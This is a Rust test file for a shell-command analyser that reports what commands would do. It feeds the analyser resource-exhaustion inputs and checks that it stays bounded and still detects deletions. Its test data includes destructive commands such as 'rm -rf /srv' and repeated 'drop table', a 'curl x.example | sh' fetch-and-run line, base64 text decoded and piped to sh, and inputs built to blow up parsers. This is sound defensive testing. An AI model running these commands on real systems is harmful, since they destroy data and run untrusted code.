//! Inputs made to cost time, memory or the stack.

use crate::{effects, programs, reading};
use portcullis_shell_reader::types::Coverage;

/// A megabyte.
const LONG: usize = 1 << 20;

#[test]
fn hostile_inputs_end_with_a_bounded_answer() {
    let mut table: Vec<(String, String)> = vec![
        ("open substitutions".to_owned(), "$(".repeat(10_000)),
        (
            "closed substitutions".to_owned(),
            format!("{}{}", "$(".repeat(10_000), ")".repeat(10_000)),
        ),
        ("quoted substitutions".to_owned(), "\"$(".repeat(10_000)),
        ("conditions".to_owned(), "if ".repeat(5_000)),
        ("loops".to_owned(), "while a; do ".repeat(5_000)),
        ("groups".to_owned(), "{ ".repeat(50_000)),
        ("arithmetic".to_owned(), "$((".repeat(10_000)),
        ("bracketed arithmetic".to_owned(), "((".repeat(10_000)),
        ("parameters".to_owned(), "${a:-".repeat(10_000)),
        ("functions".to_owned(), "f() ".repeat(10_000)),
        ("arrays".to_owned(), "a=(".repeat(10_000)),
        ("wrappers".to_owned(), "sudo ".repeat(10_000)),
        ("searches".to_owned(), "find . -exec ".repeat(3_000)),
        ("commands".to_owned(), "a;".repeat(LONG / 2)),
        ("words".to_owned(), "a ".repeat(LONG / 2)),
        ("assignments".to_owned(), "a=b ".repeat(LONG / 4)),
        ("heredocs".to_owned(), "cat <<a ".repeat(10_000)),
        ("heredocs with text".to_owned(), "cat <<a\nx\n".repeat(10_000)),
        ("redirections".to_owned(), ">a ".repeat(LONG / 4)),
        (
            "deep arithmetic".to_owned(),
            format!("echo $(({}1{}))", "(".repeat(2_000), ")".repeat(2_000)),
        ),
        ("operators".to_owned(), format!("a={}; {}", "x".repeat(250), "b=${a%*y}; ".repeat(5_000))),
        (
            "decoding".to_owned(),
            format!("echo {} {} | sh", "QUJD".repeat(20_000), "| base64 -d".repeat(2_000)),
        ),
        (
            "turning".to_owned(),
            format!("echo {} {} | sh", "abc".repeat(20_000), "| rev | tr a b".repeat(2_000)),
        ),
        (
            "doubling functions".to_owned(),
            (0..60).fold("f0() { rm x; };".to_owned(), |text, n| {
                format!("{text} f{}() {{ f{n}; f{n}; }};", n + 1)
            }) + " f60",
        ),
        ("functions that call each other".to_owned(), "f() { g; g; }; g() { f; f; }; f".to_owned()),
        ("aliases of aliases".to_owned(), "alias a='b b'; alias b='a a'; a".to_owned()),
        ("quoted braces".to_owned(), "rm ".to_owned() + &"{a,\"b\"}".repeat(60)),
        ("open heredocs".to_owned(), "cat <<a <<b <<c\n".repeat(3_000)),
        ("descriptors".to_owned(), "exec 3<<<x; bash <&3;".repeat(5_000)),
        ("statements".to_owned(), format!("psql -c '{}'", "drop table a;".repeat(50_000))),
        ("braces".to_owned(), "rm {a,b}".to_owned() + &"{a,b}".repeat(200)),
        ("ranges".to_owned(), "rm {1..99999999999}{1..999999}".to_owned()),
        ("doubling".to_owned(), format!("a=xxxxxxxxxxxxxxxx;{}rm $a", "a=$a$a$a$a;".repeat(200))),
        (
            "nested shells".to_owned(),
            (0..60).fold("rm x".to_owned(), |text, _| {
                format!("eval {}", text.replace(' ', "\\ ")).chars().take(4096).collect()
            }),
        ),
        ("aliases".to_owned(), "alias a='alias a=b';".repeat(2_000)),
        ("functions in functions".to_owned(), "f() { g() { ".repeat(3_000)),
        ("cases".to_owned(), "case a in a) ".repeat(5_000)),
        ("globs".to_owned(), "ls ?(".repeat(10_000)),
        (
            "loops over much".to_owned(),
            format!("for a in {}; do for b in $a $a; do rm $a$b; done; done", "x ".repeat(1000)),
        ),
    ];
    for byte in (0_u8..128)
        .filter(|byte| *byte == b'a' || *byte == b'0' || !byte.is_ascii_alphanumeric())
        .filter(|byte| *byte > 31 || matches!(byte, 0 | 9 | 10 | 13))
    {
        table.push((
            format!("a megabyte of byte {byte}"),
            char::from(byte).to_string().repeat(LONG),
        ));
    }
    for (name, text) in table {
        let reading = reading(&text);
        assert!(
            reading.commands.len() <= 256
                && reading.effects.len() <= 256
                && reading.gaps.len() <= 16,
            "{name}"
        );
        assert!(reading.shape.len() <= 4096, "{name}");
        let size: usize = reading
            .commands
            .iter()
            .flat_map(|command| command.words.iter())
            .map(|word| word.text.len())
            .sum();
        assert!(size <= 128 * 1024, "{name}: {size} bytes of words");
    }
}

#[test]
fn deep_nesting_is_still_examined() {
    for open in ["$(", "( ", "{ ", "if ", "while "] {
        let text = format!("{}rm -rf /srv", open.repeat(10_000));
        let reading = reading(&text);
        assert_eq!(reading.coverage, Coverage::Partial, "{open}");
        assert!(programs(&reading).contains(&"rm"), "{open}");
        assert!(
            effects(&reading).contains(&"delete! /srv".to_owned()),
            "{open}: {:?}",
            effects(&reading)
        );
    }
}

#[test]
fn the_gravest_effects_are_kept_when_there_are_too_many() {
    let text = format!(
        "{} rm -rf /srv",
        (0..1000).map(|number| format!("cat f{number};")).collect::<String>()
    );
    assert!(effects(&reading(&text)).contains(&"delete! /srv".to_owned()));
}

#[test]
fn texts_that_are_no_shell_do_no_harm() {
    for text in [
        "\u{0}\u{1}\u{2}",
        "ünï ©ødé '„\u{fffd}",
        "\u{feff}ls",
        "\\",
        "'",
        "\"",
        "$",
        "$'\\",
        "${",
        "<<",
        "<<''",
        "~",
        "~x/",
        "a=",
        "=",
        "[[",
        "((",
        "\u{10ffff}\\\u{10ffff}",
        "`\\`",
        "$'\\u{110000}\\xff'",
        "{..}",
        "{a..}",
        "{,}",
        "a{,}",
    ] {
        let _ = reading(text);
    }
}

/// Code made to cost time, memory or the stack of its parser or of what follows it.
fn hostile_code() -> Vec<(&'static str, String)> {
    let mut table = Vec::new();
    for (language, part) in [
        ("python3", "("),
        ("python3", "["),
        ("python3", "{"),
        ("python3", "-"),
        ("python3", "not "),
        ("python3", "lambda: "),
        ("python3", "f("),
        ("python3", "a."),
        ("python3", "a if b else "),
        ("python3", "a + "),
        ("python3", "a ** "),
        ("python3", "f\"{"),
        ("python3", "a = "),
        ("python3", "await "),
        ("python3", "x = [x, x]\n"),
        ("python3", "s = s + s\n"),
        ("python3", "def f(): f()\n"),
        ("node", "("),
        ("node", "["),
        ("node", "{"),
        ("node", "-"),
        ("node", "!"),
        ("node", "a => "),
        ("node", "a ? b : "),
        ("node", "a."),
        ("node", "`${"),
        ("node", "new "),
        ("node", "typeof "),
        ("node", "if (a) "),
        ("node", "if (a) b; else "),
        ("node", "a<"),
        ("node", "(a = "),
        ("node", "async ("),
        ("node", "function f() {"),
        ("node", "class extends "),
        ("node", "/'/; ("),
        ("node", "x = [x, x];"),
        ("node", "s = s + s;"),
    ] {
        for times in [40, 60, 200, 100_000] {
            table.push((language, part.repeat(times)));
            table.push((language, format!("x = 'a'; s = 'b'\n{}a", part.repeat(times))));
        }
    }
    for depth in [8, 60] {
        let doubling: String =
            (0..depth).map(|n| format!("def f{}():\n  f{n}(); f{n}()\n", n + 1)).collect();
        table.push(("python3", format!("def f0(): pass\n{doubling}f{depth}()")));
        let doubling: String =
            (0..depth).map(|n| format!("function f{}() {{ f{n}(); f{n}() }}\n", n + 1)).collect();
        table.push(("node", format!("function f0() {{}}\n{doubling}f{depth}()")));
        let parens = format!("{}a{}", "(".repeat(depth), ")".repeat(depth));
        table.push(("python3", parens.clone()));
        table.push(("node", parens));
        let arrows = format!("{}a{}", "(a, (b = ".repeat(depth / 2), "))".repeat(depth / 2));
        table.push(("node", arrows));
        let loops: String =
            (0..depth).map(|n| format!("{}for a{n} in b:\n", " ".repeat(n))).collect();
        table.push(("python3", format!("{loops}{}x = x + a0", " ".repeat(depth))));
    }
    table.push(("python3", format!("import os\n{}", "os.system(x)\n".repeat(20_000))));
    table.push(("python3", format!("exec({:?})", "exec('exec(1)')".repeat(2_000))));
    table.push(("node", format!("const a = [{}]", "1,".repeat(LONG / 2))));
    table
}

#[test]
fn hostile_code_ends_with_a_bounded_answer() {
    for (program, code) in hostile_code() {
        let name: String = code.chars().take(40).collect();
        let start = std::time::Instant::now();
        let text = format!("{program} - <<'EOF'\n{code}\nEOF\nrm -rf /srv");
        let (read, steps) = portcullis_shell_reader::read_counted(
            &text,
            &portcullis_shell_reader::Surroundings {
                cwd: "/home/dev/project".to_owned(),
                home: "/home/dev".to_owned(),
                files: Vec::new(),
                mounts: Vec::new(),
            },
        );
        assert!(steps < 10_000_000, "{program} `{name}`: {steps} steps");
        assert!(start.elapsed().as_secs() < 5, "{program} `{name}`: {:?}", start.elapsed());
        assert!(
            effects(&read).contains(&"delete! /srv".to_owned()),
            "{program} `{name}`: {:?}",
            effects(&read)
        );
    }
}

#[test]
fn a_file_that_runs_itself_on_every_line_ends_with_a_bounded_answer() {
    for line in
        ["sh run.sh", "rm -r& sh run.sh", "curl x.example | sh; ./run.sh", ". ./run.sh; x=$x$x"]
    {
        let lines = format!("{line}\n").repeat(1_200);
        let start = std::time::Instant::now();
        let text = format!("cat > run.sh <<'END' && sh run.sh\n{lines}END\nrm -rf /srv");
        let surroundings = portcullis_shell_reader::Surroundings {
            cwd: "/home/dev/project".to_owned(),
            home: "/home/dev".to_owned(),
            files: Vec::new(),
            mounts: Vec::new(),
        };
        let (read, steps) = portcullis_shell_reader::read_counted(&text, &surroundings);
        assert!(steps < 16_000_000, "`{line}`: {steps} steps");
        assert!(start.elapsed().as_secs() < 5, "`{line}`: {:?}", start.elapsed());
        assert!(read.gaps.iter().any(|gap| gap.starts_with("limit: ")), "`{line}`");
    }
}

#[test]
fn code_that_is_not_parsed_is_partial_and_still_searched() {
    let padding = format!("x = {}1{}\n", "(".repeat(200), ")".repeat(200));
    for (program, code) in [
        ("python3", format!("{padding}import os\nos.remove('/srv/x')")),
        ("python3", "print 'a'\nimport os\nos.remove('/srv/x')".to_owned()),
        ("python3", format!("import os\nos.remove('/srv/x')\n{}", "# padding\n".repeat(20_000))),
        ("node", format!("{padding}require('fs').unlinkSync('/srv/x')")),
        ("node", "require('fs').unlinkSync('/srv/x'); let let = 1 1".to_owned()),
    ] {
        let read = reading(&format!("{program} - <<'EOF'\n{code}\nEOF"));
        assert_eq!(read.coverage, Coverage::Partial, "{code:.40}");
        assert!(
            effects(&read).contains(&"delete /srv/x".to_owned()),
            "{code:.40}: {:?}",
            effects(&read)
        );
    }
}
